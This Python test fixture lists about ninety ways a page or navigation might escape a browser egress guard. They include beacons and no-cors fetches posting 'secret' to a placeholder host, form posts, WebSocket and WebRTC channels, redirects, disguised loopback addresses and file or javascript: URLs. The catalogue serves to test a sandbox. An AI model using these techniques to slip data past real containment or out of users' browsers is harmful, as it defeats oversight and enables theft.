"""The ways out that the bypass suite tries; docs/guard.md holds the same list.

In the texts, BAD is a host and port that must not be reached, another PORT for every case; GOOD is the allowed origin
and OUT a file that may not be read.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Literal

FENCE, BROWSER, RULE = "fence", "browser", "rule"


@dataclass(frozen=True)
class Case:
    """One way out.

    Attributes:
        name: What docs/guard.md calls it.
        stopped_by: "fence": the proxy refuses it; "browser": Chromium does not even try, or has no way; "rule": the
            action or the document is refused by its address.
        page: Body of the page that tries it.
        script: What the page runs after its body; sets the title to "done" when the browser stops it.
        headers: Of the page.
        navigate: An address for the action `navigate`, instead of a page.
        click: Whether the page waits for a click anywhere.
        blocked: Whether the step has to say so: a document was refused.
        alone: Whether it needs a tab of its own; the others that the fence stops share one, in frames.
        files: Other paths of the allowed server: body and type.
    """

    name: str
    stopped_by: Literal["fence", "browser", "rule"]
    page: str = ""
    script: str = ""
    headers: dict[str, str] = field(default_factory=dict)
    navigate: str = ""
    click: bool = False
    blocked: bool = False
    alone: bool = False
    files: dict[str, tuple[str, str]] = field(default_factory=dict)

    @property
    def shares(self) -> bool:
        """Whether it can be tried in a frame beside others."""
        return self.stopped_by == FENCE and not (self.alone or self.blocked or self.click)


def _part(name: str, page: str) -> Case:
    return Case(name, FENCE, page)


def _script(name: str, script: str, **more: object) -> Case:
    return Case(name, FENCE, script=script, **more)  # type: ignore[arg-type]


def _document(name: str, script: str = "", **more: object) -> Case:
    return Case(name, FENCE, script=script, blocked=True, **more)  # type: ignore[arg-type]


def _action(name: str, address: str) -> Case:
    return Case(name, RULE, navigate=address, blocked=True)


def _done(name: str, script: str, **more: object) -> Case:
    return Case(name, BROWSER, script=script + "\n;document.title = 'done'", **more)  # type: ignore[arg-type]


_JS = "text/javascript"
_FETCH = "fetch('http://BAD/', {mode: 'no-cors'})"
_LINK = "<a id=link href='{}' {} style='position:fixed;inset:0'>go</a>"
_RTC = """const peer = new RTCPeerConnection({iceServers: [%s], iceTransportPolicy: '%s'});
peer.createDataChannel('x');
peer.onicegatheringstatechange = () => { if (peer.iceGatheringState === 'complete') document.title = 'done' };
peer.createOffer().then(offer => peer.setLocalDescription(offer));"""

CASES: tuple[Case, ...] = (
    # What a page is made of
    _part("image", "<img src=http://BAD/>"),
    _part("image by srcset", "<img srcset='http://BAD/ 1x'>"),
    _part("script", "<script src=http://BAD/></script>"),
    _part("style sheet", "<link rel=stylesheet href=http://BAD/>"),
    _part("style sheet by @import", "<style>@import 'http://BAD/';</style>"),
    _part("CSS background", "<style>body { background: url(http://BAD/) }</style>"),
    _part("CSS font", "<style>@font-face { font-family: x; src: url(http://BAD/) } body { font: 20px x }</style>text"),
    _part("iframe", "<iframe src=http://BAD/></iframe>"),
    _part("sandboxed iframe", "<iframe sandbox=allow-scripts src=http://BAD/></iframe>"),
    _part("image in a srcdoc frame", "<iframe srcdoc='<img src=http://BAD/>'></iframe>"),
    _part("image in a data: frame", "<iframe src='data:text/html,<img src=http://BAD/>'></iframe>"),
    _part("object", "<object data=http://BAD/ width=50 height=50></object>"),
    _part("embed", "<embed src=http://BAD/ width=50 height=50>"),
    _part("video", "<video src=http://BAD/ autoplay muted></video>"),
    _part("SVG image", "<svg><image href=http://BAD/ width=9 height=9 /></svg>"),
    _part("base address", "<base href=http://BAD/><img src=a>"),
    _part("image over the name localhost", "<img src=http://localhost:PORT/>"),
    _part("image over IPv6", "<img src=http://[::1]:PORT/>"),
    _part("image over an IPv4 address in IPv6", "<img src=http://[::ffff:127.0.0.1]:PORT/>"),
    _part("image over 0.0.0.0", "<img src=http://0.0.0.0:PORT/>"),
    _part("image over a decimal address", "<img src=http://2130706433:PORT/>"),
    _part("image over another loopback address", "<img src=http://127.1.2.3:PORT/>"),
    _part("image over TLS", "<img src=https://BAD/>"),
    _part("image by a redirect of the allowed server", "<img src='/go?to=http://BAD/'>"),
    # What a browser does ahead of time, or behind a page's back
    _part("prefetch", "<link rel=prefetch href=http://BAD/>"),
    _part("preload", "<link rel=preload as=image href=http://BAD/>"),
    _part("modulepreload", "<link rel=modulepreload href=http://BAD/>"),
    _done("preconnect", "0", page="<link rel=preconnect href=https://BAD/>"),
    _done("DNS prefetch", "0", page="<link rel=dns-prefetch href=//name.of.nobody.example>"),
    Case("preload by a header", FENCE, headers={"Link": "<http://BAD/>; rel=preload; as=image"}),
    Case("report of a violated policy", FENCE, "<img src=/x>",
         headers={"Content-Security-Policy": "img-src 'none'; report-uri http://BAD/"}),
    Case("link with ping", FENCE, "<a href=#x ping=http://BAD/ style='position:fixed;inset:0'>go</a>", click=True),
    # What scripts ask for
    _script("fetch", "fetch('http://BAD/')"),
    _script("fetch without CORS", "fetch('http://BAD/', {mode: 'no-cors', method: 'POST', body: 'secret'})"),
    _script("fetch by a redirect that keeps the body",
            "fetch('/go?status=307&to=http://BAD/', {method: 'POST', body: 'x'})"),
    _script("fetch that outlives its page",
            "addEventListener('pagehide', () => fetch('http://BAD/', {keepalive: true, mode: 'no-cors'}));"
            "location = '/empty'", alone=True),
    _script("beacon", "navigator.sendBeacon('http://BAD/', 'secret')"),
    _script("XMLHttpRequest", "const x = new XMLHttpRequest(); x.open('GET', 'http://BAD/'); x.send()"),
    _script("EventSource", "new EventSource('http://BAD/')"),
    _script("WebSocket", "new WebSocket('ws://BAD/')"),
    _script("WebSocket over TLS", "new WebSocket('wss://BAD/')"),
    _script("import of a module", "import('http://BAD/')"),
    _script("worker", "new Worker('/worker.js')", files={"/worker.js": (_FETCH, _JS)}),
    _script("importScripts of a worker", "new Worker('/import.js')",
            files={"/import.js": ("importScripts('http://BAD/')", _JS)}),
    _script("shared worker", "new SharedWorker('/shared.js')",
            files={"/shared.js": (_FETCH, _JS)}),
    _script("worker from a blob",
            "new Worker(URL.createObjectURL(new Blob([\"fetch('http://BAD/', {mode: 'no-cors'})\"])))"),
    _script("service worker", "navigator.serviceWorker.register('/service.js')",
            files={"/service.js": (f"addEventListener('install', e => e.waitUntil({_FETCH}))", _JS)}),
    Case("WebTransport", BROWSER,
         script="new WebTransport('https://BAD/').ready.catch(() => 0).then(() => { document.title = 'done' })"),
    Case("WebRTC, STUN", BROWSER, script=_RTC % ("{urls: 'stun:BAD'}", "all")),
    Case("WebRTC, TURN over UDP", BROWSER,
         script=_RTC % ("{urls: 'turn:BAD', username: 'a', credential: 'b'}", "relay")),
    Case("WebRTC, TURN over TCP", BROWSER,
         script=_RTC % ("{urls: 'turn:BAD?transport=tcp', username: 'a', credential: 'b'}", "relay")),
    # Where a page leads
    _document("redirect", navigate="GOOD/go?to=http://BAD/"),
    _document("redirect to TLS", navigate="GOOD/go?to=https://BAD/"),
    _document("meta refresh", page="<meta http-equiv=refresh content='0;url=http://BAD/'>"),
    Case("refresh by a header", FENCE, headers={"Refresh": "0;url=http://BAD/"}, blocked=True),
    _document("location", "location.href = 'http://BAD/'"),
    _document("location over TLS", "location.href = 'https://BAD/'"),
    _document("form", "document.forms[0].submit()", page="<form action=http://BAD/><input name=a value=secret></form>"),
    _document("form that posts", "document.forms[0].submit()",
              page="<form method=post action=http://BAD/><input name=a value=secret></form>"),
    _document("link", page=_LINK.format("http://BAD/", ""), click=True),
    _document("link to a new tab", page=_LINK.format("http://BAD/", "target=_blank"), click=True),
    _document("link without an opener", page=_LINK.format("http://BAD/", "target=_blank rel='noopener noreferrer'"),
              click=True),
    _document("link with a false name", page=_LINK.format("http://GOODHOST@BAD/", ""), click=True),
    _document("popup", "open('http://BAD/')"),
    _document("popup by a redirect", "open('/go?to=http://BAD/')"),
    _script("popup that is written", "open('about:blank').document.write('<img src=http://BAD/>')", alone=True),
    _part("frame by a redirect", "<iframe src='/go?to=http://BAD/'></iframe>"),
    _part("frame by a script address", "<iframe src=\"javascript:'<img src=http://BAD/>'\"></iframe>"),
    Case("link that downloads", FENCE, _LINK.format("http://BAD/", "download=a.txt"), click=True),
    _done("speculation rules", "0",
          page='<script type=speculationrules>{"prefetch": [{"urls": ["http://BAD/"]}]}</script>'),
    # Documents that no network sees
    _done("link to a file", "document.links[0].click()", page=_LINK.format("OUT", "")),
    _done("frame of a file", "0", page="<iframe src=OUT></iframe>"),
    _done("link to data:", "document.links[0].click()", page=_LINK.format("data:text/html,<img src=http://BAD/>", "")),
    _done("link to view-source:", "document.links[0].click()", page=_LINK.format("view-source:http://BAD/", "")),
    _done("link to chrome:", "document.links[0].click()", page=_LINK.format("chrome://version", "")),
    _done("external program", "document.links[0].click()", page=_LINK.format("mailto:a@b.example", "")),
    # What an action opens
    _action("navigate to another origin", "http://BAD/"),
    _action("navigate to the open internet", "https://example.com/"),
    _action("navigate to a file", "OUT"),
    _action("navigate to data:", "data:text/html,<img src=http://BAD/>"),
    _action("navigate to blob:", "blob:http://BAD/0"),
    _action("navigate to javascript:", "javascript:location='http://BAD/'"),
    _action("navigate to view-source:", "view-source:http://BAD/"),
    _action("navigate to filesystem:", "filesystem:http://BAD/temporary/a"),
    _action("navigate to chrome:", "chrome://version"),
    _action("navigate to devtools:", "devtools://devtools/bundled/inspector.html"),
    _action("navigate with a false name", "http://GOODHOST@BAD/"),
)  # fmt: skip
